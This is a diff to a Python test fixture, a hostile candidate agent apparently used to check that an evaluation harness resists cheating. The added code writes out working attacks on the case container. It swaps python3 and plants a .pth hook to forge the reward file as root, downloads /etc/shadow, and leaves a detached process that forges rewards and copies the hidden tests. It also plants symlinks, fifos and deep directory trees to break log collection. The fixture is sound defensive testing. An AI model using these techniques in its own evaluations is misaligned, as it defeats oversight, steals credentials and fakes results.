@@ -6,15 +6,26 @@ job dir, cases dir and environment; list the job dir and forge its trials' `resu
 `reward.json`; read the cases' `tests/` on the host side; read the trusted state and the runner's
 home; reach the Docker socket; call a model that is not on the allow-list and keep calling past
 the budget; run a command as root in the case; leave a daemon behind; claim huge token counts and
-a reward; and raise an exception named like an infrastructure failure. It writes what each attempt
-got to `attacks.json` in its logs dir, which the harness copies to `<trial>/agent/candidate/`.
-`STATE_DIR` and `SECRET` (the provider key's variable name) are filled in by the test.
+a reward; and raise an exception named like an infrastructure failure.
+
+In the case container, through Harbor's environment API (issue 22): upload an executable `python3`
+into `/usr/local/bin` (the case's tests run `python3` as root), files into `/etc`, `/root` and (a
+dir upload) `/usr/local/bin`, a `.pth` file into the interpreter's site-packages (run by every
+`python3`, `-I` too); download `/etc/shadow`; leave a process (started through `exec`, in its own
+session) that writes reward 1 and reads `/tests` once the tests start; and plant a link over the
+reward, a fifo, a mode-000 directory and a tree deeper than PATH_MAX in `/logs/verifier` and
+`/logs/artifacts`, which used to make Harbor's download of them fail (a refunded, free re-run).
+
+It writes what each attempt got to `attacks.json` in its logs dir, which the harness copies to
+`<trial>/agent/candidate/`. `STATE_DIR` and `SECRET` (the provider key's variable name) are filled
+in by the test.
 """
 
 from __future__ import annotations
 
 import json
 import os
+import shlex
 import socket
 import subprocess
 from pathlib import Path
@@ -60,6 +71,89 @@ def _forge_everything(job_dir: Path) -> str:
         (trial / "verifier" / "reward.json").write_text('{"reward": 1.0}')
         forged += 1
     return f"forged {forged}"
+
+
+FORGED = '{"reward": 1}'
+
+FAKE_PYTHON = f"""#!/bin/sh
+printf '%s' '{FORGED}' > /logs/verifier/reward.json
+exit 0
+"""
+
+_PTH_CODE = (
+    "if os.geteuid() == 0 and os.path.isdir('/tests'):\n"
+    f"    open('/logs/verifier/reward.json', 'w').write({FORGED!r})\n"
+)
+PTH = f"import os; exec({_PTH_CODE!r})\n"
+"""A `.pth` line: site runs it at every interpreter start; as root during the tests it forges the reward."""
+
+LEFTOVER = f"""
+end=$(( $(date +%s) + 900 ))
+while [ "$(date +%s)" -lt "$end" ]; do
+  if [ -d /tests ]; then
+    printf '%s' '{FORGED}' > /logs/verifier/reward.json 2>/dev/null
+    cat /tests/* > /tmp/stolen-tests 2>/dev/null
+  fi
+  sleep 0.05
+done
+"""
+
+PLANT = r"""
+for dir in /logs/verifier /logs/artifacts; do
+  ln -sf /etc/passwd "$dir/reward.txt"
+  mkfifo "$dir/fifo"
+  mkdir -p "$dir/locked/inside" && chmod 000 "$dir/locked"
+done
+python3 - <<'PY'
+import os
+for top in ("/logs/verifier/deep", "/logs/artifacts/deep"):
+    os.makedirs(top, exist_ok=True)
+    fd = os.open(top, os.O_RDONLY | os.O_DIRECTORY)
+    for _ in range(2500):
+        os.mkdir("d", dir_fd=fd)
+        child = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
+        os.close(fd)
+        fd = child
+    os.close(fd)
+PY
+echo planted
+"""
+
+
+async def _case_attacks(environment, report: dict, scratch: Path) -> None:
+    """Issue 22's attacks on the case container (see the module docstring)."""
+
+    async def attempt(name: str, call) -> None:
+        try:
+            report[name] = "ok: " + str(await call)[:200]
+        except Exception as exc:  # noqa: BLE001 - the report is the point
+            report[name] = "denied: " + type(exc).__name__
+
+    fake = scratch / "python3"
+    fake.write_text(FAKE_PYTHON)
+    fake.chmod(0o755)
+    marker = scratch / "planted"
+    marker.write_text("planted\n")
+    (scratch / "tree").mkdir(exist_ok=True)
+    (scratch / "tree" / "planted").write_text("planted\n")
+    pth = scratch / "zz-hostile.pth"
+    pth.write_text(PTH)
+    await attempt("upload_python3", environment.upload_file(fake, "/usr/local/bin/python3"))
+    await attempt("upload_etc", environment.upload_file(marker, "/etc/planted"))
+    await attempt("upload_root_home", environment.upload_file(marker, "/root/planted"))
+    await attempt("upload_dir_usr_local_bin", environment.upload_dir(scratch / "tree", "/usr/local/bin"))
+    site = await environment.exec("python3 -I -c 'import sysconfig; print(sysconfig.get_paths()[\"purelib\"])'")
+    await attempt("upload_pth", environment.upload_file(pth, f"{(site.stdout or '').strip()}/zz-hostile.pth"))
+    await attempt("download_shadow", environment.download_file("/etc/shadow", scratch / "shadow"))
+    # What it may read and write still works, with its own rights.
+    await attempt("upload_own", environment.upload_file(marker, "/app/planted-by-candidate"))
+    await attempt("download_own", environment.download_file("/app/planted-by-candidate", scratch / "back"))
+    started = await environment.exec(
+        f"nohup setsid bash -c {shlex.quote(LEFTOVER)} >/dev/null 2>&1 < /dev/null & echo started"
+    )
+    report["leftover"] = (started.stdout or "").strip()
+    planted = await environment.exec(PLANT, timeout_sec=300)
+    report["planted"] = (planted.stdout or "").strip()[-100:]
 
 
 class HostileCandidate(BaseAgent):
@@ -133,6 +227,7 @@ class HostileCandidate(BaseAgent):
             report["exec_as_root"] = "ok: " + await as_root()
         except Exception as exc:  # noqa: BLE001
             report["exec_as_root"] = "denied: " + type(exc).__name__
+        await _case_attacks(environment, report, Path(os.environ["VERO_CANDIDATE_SCRATCH"]))
         daemon = subprocess.Popen(["sleep", "900"], start_new_session=True)
         report["daemon_pid"] = str(daemon.pid)
         (self.logs_dir / "attacks.json").write_text(json.dumps(report, indent=1))
